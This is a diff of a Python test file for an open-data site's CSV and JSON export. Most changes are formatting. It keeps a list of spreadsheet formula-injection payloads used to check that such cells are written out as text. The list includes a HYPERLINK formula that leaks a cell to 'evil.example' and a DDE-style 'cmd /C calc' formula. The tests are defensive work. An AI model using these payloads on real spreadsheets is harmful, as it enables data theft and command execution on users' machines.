@@ -6,7 +6,6 @@ import csv
 import io
 import json
 import re
-from pathlib import Path
 
 import pytest
 
@@ -46,10 +45,17 @@ def test_positions_csv_round_trips_to_the_same_positions(corpus, made):
     assert list(rows[0]) == list(opendata.POSITION_COLUMNS)
     rebuilt: dict[str, dict] = {}
     for row in rows:
-        pos = rebuilt.setdefault(row["position_id"], {
-            "id": row["position_id"], "actors": [], "date": row["date"], "quote": row["quote"],
-            "source": {"document": row["source_document"], "paragraph": row["source_paragraph"]}, "stances": {},
-        })
+        pos = rebuilt.setdefault(
+            row["position_id"],
+            {
+                "id": row["position_id"],
+                "actors": [],
+                "date": row["date"],
+                "quote": row["quote"],
+                "source": {"document": row["source_document"], "paragraph": row["source_paragraph"]},
+                "stances": {},
+            },
+        )
         if row["actor_id"] not in pos["actors"]:
             pos["actors"].append(row["actor_id"])
         pos["stances"][row["criterion"]] = row["stance"]
@@ -68,11 +74,17 @@ def test_proposals_csv_round_trips_to_the_same_proposals(corpus, made):
     rows = read_csv(made["data/rid-proposals.csv"])
     rebuilt: dict[str, dict] = {}
     for row in rows:
-        prop = rebuilt.setdefault(row["proposal_id"], {
-            "id": row["proposal_id"], "proponents": row["proponents"].split(), "date": row["date"],
-            "quote": row["quote"], "source": {"document": row["source_document"], "paragraph": row["source_paragraph"]},
-            "stances": {},
-        })
+        prop = rebuilt.setdefault(
+            row["proposal_id"],
+            {
+                "id": row["proposal_id"],
+                "proponents": row["proponents"].split(),
+                "date": row["date"],
+                "quote": row["quote"],
+                "source": {"document": row["source_document"], "paragraph": row["source_paragraph"]},
+                "stances": {},
+            },
+        )
         prop["stances"][row["criterion"]] = row["stance"]
     fields = ("id", "proponents", "date", "quote", "source", "stances")
     assert rebuilt == {p["id"]: {k: p[k] for k in fields} for p in corpus.proposals.values()}
@@ -98,17 +110,29 @@ def test_data_page_links_to_the_files_the_build_wrote(built, lang):
         assert (site / "data" / name).read_bytes() == files[f"data/{name}"].encode("utf-8")
 
 
-FORMULAS = ['=HYPERLINK("https://evil.example/?leak="&A1,"Egypt")', "@SUM(1+1)*cmd|' /C calc'!A0", "+1+cmd", "-2+3", "\tx"]
+FORMULAS = [
+    '=HYPERLINK("https://evil.example/?leak="&A1,"Egypt")',
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "+1+cmd",
+    "-2+3",
+    "\tx",
+]
 
 
 @pytest.mark.parametrize("formula", FORMULAS)
 def test_a_cell_a_spreadsheet_would_run_is_written_as_text(data_copy, formula):
     actor = data_copy / "actors" / "egy.yml"
-    actor.write_text(actor.read_text(encoding="utf-8").replace('en: "Egypt"', f"en: {json.dumps(formula)}"), encoding="utf-8")
+    actor.write_text(
+        actor.read_text(encoding="utf-8").replace('en: "Egypt"', f"en: {json.dumps(formula)}"), encoding="utf-8"
+    )
     proposal = data_copy / "proposals" / "egypt-platform.yml"
     # The English title, whatever it says today (the line under "title:" and its comments).
-    text = re.sub(r"(?m)^(title:\n(?:  #.*\n)*)  en: .*$", lambda m: m.group(1) + f"  en: {json.dumps(formula)}",
-                  proposal.read_text(encoding="utf-8"), count=1)
+    text = re.sub(
+        r"(?m)^(title:\n(?:  #.*\n)*)  en: .*$",
+        lambda m: m.group(1) + f"  en: {json.dumps(formula)}",
+        proposal.read_text(encoding="utf-8"),
+        count=1,
+    )
     proposal.write_text(text, encoding="utf-8")
     corpus = load_corpus(data_copy)
     made = opendata.files(corpus, SITE_URL)
@@ -119,5 +143,9 @@ def test_a_cell_a_spreadsheet_would_run_is_written_as_text(data_copy, formula):
     for name in ("data/rid-positions.csv", "data/rid-proposals.csv"):
         cells = [cell for row in read_csv(made[name]) for cell in row.values()]
         assert not [c for c in cells if c and c[0] in "=+-@\t\r"]
-    assert json.loads(made["data/rid-records.json"])["actors"][
-        [a["id"] for a in json.loads(made["data/rid-records.json"])["actors"]].index("egy")]["name"]["en"] == formula
+    assert (
+        json.loads(made["data/rid-records.json"])["actors"][
+            [a["id"] for a in json.loads(made["data/rid-records.json"])["actors"]].index("egy")
+        ]["name"]["en"]
+        == formula
+    )
